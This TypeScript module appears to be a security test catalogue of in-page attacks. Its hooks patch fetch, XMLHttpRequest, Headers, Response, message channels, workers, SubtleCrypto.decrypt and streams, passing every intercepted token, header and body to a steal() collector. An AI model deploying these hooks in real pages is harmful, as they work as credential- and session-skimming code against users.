import { attack } from "../attack.js";

export const hookFetch = attack({
  name: "hooks fetch",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { fetch } = window;
    window.fetch = async (input, init) => {
      const request = input instanceof Request ? input : undefined;
      it.steal(request?.url ?? String(input), [...new Headers(init?.headers ?? request?.headers)]);
      if (typeof init?.body === "string" || init?.body instanceof URLSearchParams)
        it.steal(String(init.body));
      const copy = request?.clone();
      const response = await fetch(input, init);
      const answer = response.clone();
      // Do not wait for a stream that never ends.
      void copy?.text().then((text) => it.steal(text));
      it.steal(response.url, [...response.headers]);
      if (!response.headers.get("content-type")?.startsWith("text/event-stream")) {
        void answer.text().then((text) => it.steal(text));
      }
      return response;
    };
  },
});

export const hookXmlHttpRequest = attack({
  name: "hooks XMLHttpRequest",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { open, send, setRequestHeader } = XMLHttpRequest.prototype;
    XMLHttpRequest.prototype.open = function (...args: unknown[]) {
      this.addEventListener("load", () => {
        it.steal(this.responseURL, this.getAllResponseHeaders());
        if (this.responseType === "" || this.responseType === "text") it.steal(this.responseText);
      });
      return (open as (...args: unknown[]) => void).apply(this, args);
    };
    XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
      it.steal(value);
      return setRequestHeader.call(this, name, value);
    };
    XMLHttpRequest.prototype.send = function (body) {
      if (typeof body === "string") it.steal(body);
      return send.call(this, body);
    };
  },
});

export const hookHeadersAndRequests = attack({
  name: "hooks Headers and Request",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const method of ["append", "set"] as const) {
      const original = Headers.prototype[method];
      Headers.prototype[method] = function (name, value) {
        it.steal(value);
        return original.call(this, name, value);
      };
    }
    const look = (init: RequestInit | undefined) => {
      if (init?.headers) it.steal(init.headers instanceof Headers ? [...init.headers] : init.headers);
      if (typeof init?.body === "string" || init?.body instanceof URLSearchParams)
        it.steal(String(init.body));
    };
    window.Request = new Proxy(Request, {
      construct(target, [input, init]: [RequestInfo, RequestInit?]) {
        look(init);
        const request = new target(input, init);
        it.steal(request.url, [...request.headers]);
        return request;
      },
    });
    window.Headers = new Proxy(Headers, {
      construct(target, [init]: [HeadersInit?]) {
        const headers = new target(init);
        it.steal([...headers]);
        return headers;
      },
    });
  },
});

export const hookResponses = attack({
  name: "hooks Response.prototype",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const asText = (value: unknown) =>
      value instanceof ArrayBuffer
        ? Array.from(new Uint8Array(value), (byte) => String.fromCharCode(byte)).join("")
        : value;
    for (const method of ["arrayBuffer", "json", "text"] as const) {
      const original = Response.prototype[method] as () => Promise<unknown>;
      Response.prototype[method] = async function (this: Response) {
        const value = await original.call(this);
        it.steal(this.url, [...this.headers], asText(value));
        return value;
      } as never;
    }
    const { clone } = Response.prototype;
    Response.prototype.clone = function () {
      const copy = clone.call(this);
      if (copy.headers.get("content-type")?.includes("json")) {
        void clone
          .call(copy)
          .text()
          .then((text) => it.steal(text));
      }
      return copy;
    };
  },
});

export const hookMessages = attack({
  name: "hooks MessagePort, Worker and MessageEvent",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const { prototype } of [MessagePort, Worker, ServiceWorker, BroadcastChannel, Window] as {
      prototype: { postMessage?: (...args: unknown[]) => void };
    }[]) {
      const { postMessage } = prototype;
      if (!postMessage) continue;
      prototype.postMessage = function (...args) {
        it.steal(args[0]);
        return postMessage.apply(this, args);
      };
    }
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
    if (!data?.get) return;
    const { get } = data;
    Object.defineProperty(MessageEvent.prototype, "data", {
      ...data,
      get() {
        const value: unknown = get.call(this);
        it.steal(value);
        return value;
      },
    });
  },
});

export const hookWorkerConstructors = attack({
  name: "wraps every worker that the page starts",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    // Wraps the app's worker script in the same global, and reports its requests and messages to the page.
    const around = (url: string) => {
      const script = `
        const tell = (...values) => new BroadcastChannel("wrapped").postMessage(values.map(String));
        const { fetch, postMessage } = self;
        self.fetch = async (input, init) => {
          tell(input.url ?? input, [...new Headers(init?.headers ?? input.headers)].join(), init?.body ?? "");
          const response = await fetch(input, init);
          response.clone().text().then(tell);
          return response;
        };
        const { decode } = TextDecoder.prototype;
        TextDecoder.prototype.decode = function (...args) {
          const text = decode.apply(this, args);
          tell(text);
          return text;
        };
        const { decrypt } = SubtleCrypto.prototype;
        SubtleCrypto.prototype.decrypt = async function (...args) {
          const bytes = await decrypt.apply(this, args);
          tell(new TextDecoder("latin1").decode(bytes.slice(0)));
          return bytes;
        };
        importScripts(${JSON.stringify(url)});`;
      return URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
    };
    new BroadcastChannel("wrapped").onmessage = ({ data }) => it.steal(...(data as string[]));
    for (const name of ["Worker", "SharedWorker"] as const) {
      if (!(name in window)) continue;
      window[name] = new Proxy(window[name], {
        construct(target, [url, ...rest]: [string | URL, ...unknown[]]) {
          try {
            return new target(it.scriptUrl(around(new URL(url, location.href).href)), ...(rest as []));
          } catch {
            // WebKit starts no shared worker from a blob; start the app's own.
            return new target(url as string, ...(rest as []));
          }
        },
      }) as never;
    }
  },
});

export const hookStreams = attack({
  name: "hooks streams",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const look = (value: unknown) => {
      if (typeof value === "string") it.steal(value);
      if (value instanceof Uint8Array)
        it.steal(Array.from(value, (byte) => String.fromCharCode(byte)).join(""));
    };
    const { read } = ReadableStreamDefaultReader.prototype;
    ReadableStreamDefaultReader.prototype.read = async function () {
      const result = await read.call(this);
      look(result.value);
      return result;
    };
    const { enqueue } = ReadableStreamDefaultController.prototype;
    ReadableStreamDefaultController.prototype.enqueue = function (chunk) {
      look(chunk);
      return enqueue.call(this, chunk);
    };
    const { write } = WritableStreamDefaultWriter.prototype;
    WritableStreamDefaultWriter.prototype.write = function (chunk) {
      look(chunk);
      return write.call(this, chunk);
    };
  },
});

export const listenToChannels = attack({
  name: "listens to postMessage, BroadcastChannel and storage events",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    addEventListener("message", ({ data }) => it.steal(data), true);
    addEventListener("storage", ({ oldValue, newValue }) => it.steal(oldValue, newValue), true);
    navigator.serviceWorker?.addEventListener("message", ({ data }) => it.steal(data));
    navigator.serviceWorker?.startMessages();
    // Names that the app uses, and some that libraries use.
    const listen = (name: string) => {
      new channel(name).onmessage = ({ data }) => it.steal(data);
    };
    const channel = BroadcastChannel;
    window.BroadcastChannel = new Proxy(channel, {
      construct(target, [name]: [string]) {
        listen(name);
        return new target(name);
      },
    });
    for (const name of ["auth", "token", "tokens", "session", "oidc", "keeper", "strongroom"]) listen(name);
  },
});
